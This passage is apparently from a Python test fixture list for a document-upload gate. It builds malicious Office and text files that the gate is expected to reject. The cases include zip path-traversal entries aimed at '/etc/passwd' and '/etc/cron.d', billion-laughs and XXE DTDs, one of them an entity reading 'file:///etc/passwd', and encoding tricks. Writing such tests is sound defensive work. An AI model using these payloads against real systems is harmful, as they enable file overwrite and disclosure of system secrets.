        "路径1.docx",
        "zip_path",
        write(lambda: office(_DOCX(), add=[entry("../../evil.xml", b"<a/>")])),
    ),
    Case(
        "path_inner_dot_dot",
        "路径2.xlsx",
        "zip_path",
        write(lambda: office(_XLSX(), add=[entry("xl/../../etc/cron.d/x", b"x")])),
    ),
    Case(
        "path_absolute",
        "路径3.docx",
        "zip_path",
        write(lambda: office(_DOCX(), add=[entry("/etc/passwd", b"x")])),
    ),
    Case(
        "path_backslash",
        "路径4.docx",
        "zip_path",
        write(lambda: office(_DOCX(), add=[entry("word\\..\\..\\evil.xml", b"<a/>")])),
    ),
    Case(
        "path_drive_letter",
        "路径5.xlsx",
        "zip_path",
        write(lambda: office(_XLSX(), add=[entry("C:/Windows/evil.xml", b"<a/>")])),
    ),
    Case(
        "bzip2_entry",
        "压缩方式.docx",
        "zip_method",
        write(lambda: office(_DOCX(), add=[entry("word/media/extra.bin", b"x" * 100, zipfile.ZIP_BZIP2)])),
    ),
    # -- DTDs and entities in XML parts
    Case(
        "billion_laughs_document",
        "实体1.docx",
        "xml_dtd",
        write(lambda: _with_doctype(_DOCX(), "word/document.xml", _BILLION_LAUGHS)),
        also=("word/document.xml",),
    ),
    Case(
        "xxe_document",
        "实体2.docx",
        "xml_dtd",
        write(lambda: _with_doctype(_DOCX(), "word/document.xml", _XXE)),
    ),
    Case(
        "dtd_content_types",
        "实体3.docx",
        "xml_dtd",
        write(lambda: _with_doctype(_DOCX(), "[Content_Types].xml", _EXTERNAL_DTD)),
        also=("[Content_Types].xml",),
    ),
    Case(
        "dtd_shared_strings",
        "实体4.xlsx",
        "xml_dtd",
        write(
            lambda: office(
                _XLSX(),
                add=[entry("xl/sharedStrings.xml", _prepend_doctype(SHARED_STRINGS, _BILLION_LAUGHS))],
            )
        ),
    ),
    Case(
        "dtd_sheet",
        "实体5.xlsx",
        "xml_dtd",
        write(lambda: _with_doctype(_XLSX(), "xl/worksheets/sheet1.xml", _XXE)),
    ),
    Case(
        "dtd_package_rels",
        "实体6.docx",
        "xml_dtd",
        write(lambda: _with_doctype(_DOCX(), "_rels/.rels", _PARAMETER_ENTITY)),
        also=("_rels/.rels",),
    ),
    Case(
        "dtd_document_rels",
        "实体7.docx",
        "xml_dtd",
        write(lambda: _with_doctype(_DOCX(), "word/_rels/document.xml.rels", _XXE)),
    ),
    Case(
        "dtd_workbook_rels",
        "实体8.xlsx",
        "xml_dtd",
        write(lambda: _with_doctype(_XLSX(), "xl/_rels/workbook.xml.rels", _EXTERNAL_DTD)),
    ),
    Case(
        "dtd_after_comment",
        "实体9.docx",
        "xml_dtd",
        write(lambda: _with_doctype(_DOCX(), "word/document.xml", b"<!-- WPS -->\n" + _XXE)),
    ),
    Case("dtd_after_huge_comment", "实体10.docx", "xml_dtd", write(_long_comment_then_doctype)),
    Case(
        "dtd_in_utf16_part",
        "实体11.docx",
        "xml_dtd",
        write(lambda: _utf16_part(_DOCX(), "word/document.xml", _XXE)),
    ),
    Case(
        "entity_without_doctype",
        "实体12.xlsx",
        "xml_dtd",
        write(lambda: _with_doctype(_XLSX(), "xl/workbook.xml", b'<!ENTITY x SYSTEM "file:///etc/passwd">')),
    ),
    Case(
        "dtd_lowercase",
        "实体13.docx",
        "xml_dtd",
        write(lambda: _with_doctype(_DOCX(), "word/styles.xml", b"<!doctype x [<!entity y 'z'>]>")),
    ),
    Case("utf7_declared", "编码1.docx", "xml_dtd", write(lambda: _encoding_declared("UTF-7"))),
    # -- text that the gate lets through but no encoding can read
    Case(
        "undecodable_csv",
        "乱码.csv",
        "encoding",
        write(_random_bytes(3, 4096, range(1, 256))),
        stage=DECODE,
    ),
    Case(
        "bom_then_gbk_txt",
        "假BOM.txt",
        "encoding",
        write(b"\xef\xbb\xbf" + _PROSE.encode("gbk")),
        stage=DECODE,
    ),
    Case(
        "control_soup_txt",
        "控制符.txt",
        "encoding",
        write(("序号\x01\x02\x03\x04重点工作\x05\x06\x07\x08" * 50).encode("gbk")),
        stage=DECODE,
    ),
    # -- files the gate accepts but that hold no plan (wait on duban.ingest.parse_file)
    Case(
        "docx_prose_without_table",
        "说明.docx",
        "nothing_found",
        write(lambda: _docx_paragraphs(_PROSE.splitlines())),
        stage=PARSE,
    ),
    Case("xlsx_without_header_row", "数字.xlsx", "no_header", write(_xlsx_no_header), stage=PARSE),
    Case(
        "csv_row_longer_than_header",
        "多一列.csv",
        "extra_cells",
        write(
            "序号,重点工作,牵头单位,完成时限\n1,推进重大项目建设,市发改委,2025年6月\n"
            "2,优化营商环境,市商务局,2025年底\n3,建设产业园区,市工信局,2025年9月,多出来的一格,又一格\n".encode()
        ),
        stage=PARSE,
        also=("第4行",),
    ),
    Case("txt_prose", "讲话稿.txt", "nothing_found", write(_PROSE.encode("utf-8")), stage=PARSE),
    Case(
        "xlsx_row_longer_than_header",
        "多一列.xlsx",
        "extra_cells",
        write(_xlsx_rows_extra_cells),
        stage=PARSE,
        also=("第4行",),
    ),
    Case(
        "csv_undecodable_through_parser",
        "乱码2.csv",
        "encoding",
        write(_random_bytes(4, 4096, range(1, 256))),
        stage=PARSE,
    ),
]

_names = [case.name for case in CASES]
assert len(_names) == len(set(_names)), "case names must be unique"
assert all(case.guard in GUARDS for case in CASES)
